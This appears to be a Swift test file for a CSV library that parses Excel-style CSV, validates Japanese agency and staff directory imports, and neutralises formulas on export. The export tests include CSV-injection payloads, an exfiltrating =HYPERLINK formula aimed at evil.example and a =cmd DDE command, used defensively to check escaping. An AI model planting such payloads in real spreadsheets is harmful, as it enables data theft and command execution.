import Foundation
import KasaneCore
import Testing

@Suite("CSV as Excel writes it")
struct CSVTests {
    @Test("Reads UTF-8 with a BOM, CRLF line ends, quotes, doubled quotes and line breaks in a cell")
    func excelCSV() throws {
        let text = "機関コード,機関名\r\nA1,\"北部包括, 本所\"\r\nA2,\"言う\"\"引用\"\"\"\r\nA3,\"二行\r\nの名前\"\r\n,,\r\n"
        let table = try CSV.parse(Data([0xEF, 0xBB, 0xBF]) + Data(text.utf8))
        #expect(table.header == ["機関コード", "機関名"])
        #expect(table.rows.map(\.fields) == [["A1", "北部包括, 本所"], ["A2", "言う\"引用\""], ["A3", "二行\r\nの名前"]])
        #expect(table.rows.map(\.rowNumber) == [2, 3, 4])
    }

    @Test("Refuses Shift_JIS, an unclosed quote and an empty file, saying what to do")
    func refusals() {
        let sjis = Data([0x8B, 0x40, 0x8A, 0xD6])  // 機関 in Shift_JIS
        #expect { try CSV.parse(sjis) } throws: { ($0 as? KasaneError)?.message.contains("UTF-8") == true }
        #expect { try CSV.parse("a,b\n\"open,x\n") } throws: { ($0 as? KasaneError)?.message.contains("閉じられていません") == true }
        #expect { try CSV.parse("") } throws: { ($0 as? KasaneError)?.message.contains("空") == true }
        #expect { try CSV.parse("a,b\n\"x\"y,z\n") } throws: { $0 is KasaneError }
    }

    @Test("Lists in a cell split on ; 、 and |")
    func lists() {
        #expect(CSV.list("介護・高齢;障害、 生活困窮 | 地域") == ["介護・高齢", "障害", "生活困窮", "地域"])
    }
}

@Suite("Directory import rows")
struct DirectoryImportTests {
    let fields = Set(Field.standard)

    @Test("Every bad row is reported with its number and column; none is returned")
    func badRows() throws {
        let csv = """
            機関コード,機関名,種別,分野,地区,運営,所管課
            A1,北部包括,地域包括支援センター,介護・高齢,N,委託,高齢者支援課
            A2,,地域包括支援センター,介護・高齢,N,委託,高齢者支援課
            A3,南部包括,地域包括支援センター,宇宙,S,委託,高齢者支援課
            A1,重複,種別,障害,,直営,課
            A5,名前,種別,障害,Z,直営,課
            A6,名前,種別,障害,,外注,課
            """
        #expect {
            try DirectoryImport.agencies(try CSV.parse(csv), knownFields: fields, knownDistricts: ["N", "S"])
        } throws: { error in
            guard case .rejectedRows(let problems) = error as? KasaneError else { return false }
            return problems.map(\.row) == [3, 4, 5, 6, 7]
                && problems[0].column == "機関名" && problems[1].message.contains("宇宙")
                && problems[2].message.contains("2行目と重複") && problems[3].message.contains("Z")
                && problems[4].column == "運営"
        }
    }

    @Test("A missing required column or an unknown one is refused before any row")
    func header() {
        #expect {
            try DirectoryImport.staff(try CSV.parse("機関コード,氏名,好きな色\nA1,山田 花子,青\n"))
        } throws: { error in
            guard case .rejectedRows(let problems) = error as? KasaneError else { return false }
            return problems.contains { $0.message.contains("好きな色") } && problems.contains { $0.message.contains("メール") }
        }
    }

    @Test("Staff rows read Japanese roles, pledge dates and the active flag")
    func staffRows() throws {
        let rows = try DirectoryImport.staff(try CSV.parse("""
            機関コード,氏名,メール,役割,守秘義務確認日,有効
            A1,山田 花子,Hanako@Example.jp,多機関協働;構成員,2026/04/01,有効
            A1,佐藤 次郎,jiro@example.jp,事務局,,無効
            """))
        #expect(rows[0].staff.roles == [.coordinator, .member])
        #expect(rows[0].staff.email == "hanako@example.jp")
        #expect(rows[0].pledgedOn == LocalDate("2026-04-01"))
        #expect(rows[1].staff.active == false)
        #expect {
            try DirectoryImport.staff(try CSV.parse("機関コード,氏名,メール,役割\nA1,山田 花子,not-an-email,王様\n"))
        } throws: { error in
            guard case .rejectedRows(let problems) = error as? KasaneError else { return false }
            return problems.count == 1 && problems[0].row == 2
        }
    }
}

@Suite("CSV written for Excel")
struct CSVWriteTests {
    @Test("A cell Excel would take for a formula is written as text; quoting follows RFC 4180")
    func neutralised() throws {
        #expect(CSV.cell("=HYPERLINK(\"https://evil.example/?\"&A1)") == "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1)\"")
        for formula in ["+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
            #expect(CSV.cell(formula).hasPrefix("'") || CSV.cell(formula).hasPrefix("\"'"), "\(formula)")
        }
        #expect(CSV.cell("北部包括") == "北部包括")
        #expect(CSV.cell("a,b") == "\"a,b\"")
        #expect(CSV.row(["1", "=1", "x\"y"]) == "1,'=1,\"x\"\"y\"")
        // What it writes reads back as the text it was (with the apostrophe that keeps it text).
        let table = try CSV.parse("h1,h2,h3\r\n" + CSV.row(["=cmd|' /C calc'!A0", "a,b", "-5"]) + "\r\n")
        #expect(table.rows[0].fields == ["'=cmd|' /C calc'!A0", "a,b", "'-5"])
    }
}
